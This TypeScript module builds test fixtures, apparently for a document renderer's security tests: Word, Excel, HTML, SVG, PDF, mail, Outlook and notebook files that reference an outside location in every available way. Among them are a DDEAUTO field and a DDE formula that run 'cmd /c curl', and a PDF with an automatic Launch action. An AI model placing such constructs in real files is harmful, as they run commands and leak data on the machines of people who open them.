import { outlookMessage, texts } from '../../activities/evidence/render/outlook/outlook-message';
import {
  type Parts,
  document,
  entriesOf,
  relationships,
  workbook,
  zipOf,
} from './hostile-packages';
import { writeZip } from '../../../scripts/corpus/zip';
import { outsidePresentation } from './outside-presentation';

/** Files that ask whoever opens them for something outside: `url` is a page, `path` a file of the machine. */
export interface OutsideFile {
  readonly file: string;
  readonly content: Buffer;
}

const DRAWING =
  ' xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"' +
  ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"' +
  ' xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"';

function linkedPicture(id: string): string {
  return (
    '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="p"/>' +
    '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>' +
    `<pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="${id}"/>` +
    '<a:stretch/></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>' +
    '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
  );
}

const field = (instruction: string): string =>
  `<w:p><w:r><w:t>seen</w:t></w:r><w:fldSimple w:instr="${instruction.replaceAll('"', '&quot;')}"><w:r><w:t>result</w:t></w:r></w:fldSimple></w:p>`;

/** A document with every way that it can refer to a place. */
export function outsideDocument(place: string): Buffer {
  const external = (type: string): { type: string; target: string; external: true } => ({
    type,
    target: place,
    external: true,
  });
  const body =
    linkedPicture('rId1') +
    `<w:altChunk r:id="rId2"/>` +
    field(`INCLUDEPICTURE "${place}" \\d`) +
    field(`INCLUDETEXT "${place}"`) +
    field(`DDEAUTO "cmd" "/c curl ${place}"`) +
    field(`LINK Excel.Sheet "${place}"`) +
    `<w:p><w:hyperlink r:id="rId5"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>`;
  const types = [
    'image',
    'aFChunk',
    'attachedTemplate',
    'subDocument',
    'hyperlink',
    'frame',
    'oleObject',
  ];
  return zipOf(document(body, { relations: types.map(external), namespaces: DRAWING }));
}

/** A workbook with an external book, functions that fetch, and a picture. */
export function outsideWorkbook(place: string): Buffer {
  const formula = (text: string, at: number): string =>
    `<row r="${at}"><c r="A${at}"><f>${text.replaceAll('"', '&quot;')}</f></c></row>`;
  const rows = [
    `WEBSERVICE("${place}")`,
    `IMAGE("${place}")`,
    `'[1]Sheet1'!A1`,
    `HYPERLINK("${place}")`,
    `'${place}'#$Sheet1.A1`,
    `cmd|'/c curl ${place}'!A1`,
    `RTD("x","${place}","y")`,
  ].map((text, index) => formula(text, index + 1));
  const parts = workbook(rows.join(''));
  const link =
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>';
  const extra: Parts = {
    'xl/externalLinks/externalLink1.xml': link,
    'xl/externalLinks/_rels/externalLink1.xml.rels': relationships({
      type: 'externalLinkPath',
      target: place,
      external: true,
    }),
    'xl/workbook.xml': String(parts['xl/workbook.xml']).replace(
      '</sheets>',
      '</sheets><externalReferences><externalReference r:id="rId2"/></externalReferences>',
    ),
    'xl/_rels/workbook.xml.rels': relationships(
      { type: 'worksheet', target: 'worksheets/sheet1.xml' },
      { type: 'externalLink', target: 'externalLinks/externalLink1.xml' },
    ),
  };
  return writeZip(entriesOf(parts, extra));
}

export function outsidePage(place: string): Buffer {
  return Buffer.from(
    `<html><head><link rel="stylesheet" href="${place}"><style>@import url("${place}"); body{background:url(${place})}</style>` +
      `<base href="${place}"><script src="${place}"></script><meta http-equiv="refresh" content="0;url=${place}"></head>` +
      `<body><p>seen</p><img src="${place}"><iframe src="${place}"></iframe><object data="${place}"></object><embed src="${place}">` +
      `<video src="${place}" poster="${place}"></video><svg><image href="${place}"/></svg></body></html>`,
  );
}

export function outsidePicture(place: string): Buffer {
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">` +
      `<style>@import url("${place}");</style><image href="${place}" width="90" height="90"/>` +
      `<image xlink:href="${place}" width="90" height="90"/><use href="${place}#a"/><rect width="9" height="9"/></svg>`,
  );
}

export function outsideText(place: string): Buffer {
  return Buffer.from(`![picture](${place})\n\n<img src="${place}">\n\nseen\n`);
}

/** A PDF that would start a program, open a page and send a form. */
export function outsidePdf(place: string): Buffer {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 6 0 R >> >>`,
    `<< /Type /Pages /Kids [3 0 R] /Count 1 >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /X 7 0 R >> >> /AA << /O 6 0 R >> >>`,
    `<< /Length 50 >>\nstream\nBT /F 12 Tf 20 200 Td (seen words on a page) Tj ET\nendstream`,
    `<< /S /Launch /F (${place}) >>`,
    `<< /S /URI /URI (${place}) >>`,
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${place}) >> /Length 0 >>\nstream\n\nendstream`,
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  return Buffer.from(
    `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
  );
}

/** A mail whose HTML body shows what lies elsewhere. */
export function outsideMail(place: string): Buffer {
  return Buffer.from(
    `Subject: seen\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${outsidePage(place).toString()}`,
  );
}

export function outsideOutlook(place: string): Buffer {
  return outlookMessage({
    ...texts({ '001A': 'IPM.Note', '0037': 'seen' }),
    '__substg1.0_10130102': outsidePage(place),
  });
}

export function outsideNotebook(place: string): Buffer {
  const markup = outsidePage(place).toString();
  const data = { 'text/html': markup, 'image/svg+xml': outsidePicture(place).toString() };
  const cell = {
    cell_type: 'code',
    source: 'seen',
    outputs: [{ output_type: 'display_data', data }],
  };
  return Buffer.from(JSON.stringify({ nbformat: 4, metadata: {}, cells: [cell] }));
}

export function outsideFiles(place: string): OutsideFile[] {
  return [
    { file: 'outside.docx', content: outsideDocument(place) },
    { file: 'outside.xlsx', content: outsideWorkbook(place) },
    { file: 'outside.pptx', content: outsidePresentation(place) },
    { file: 'outside.html', content: outsidePage(place) },
    { file: 'outside.svg', content: outsidePicture(place) },
    { file: 'outside.md', content: outsideText(place) },
    { file: 'outside.pdf', content: outsidePdf(place) },
    { file: 'outside.eml', content: outsideMail(place) },
    { file: 'outside.msg', content: outsideOutlook(place) },
    { file: 'outside.ipynb', content: outsideNotebook(place) },
  ];
}
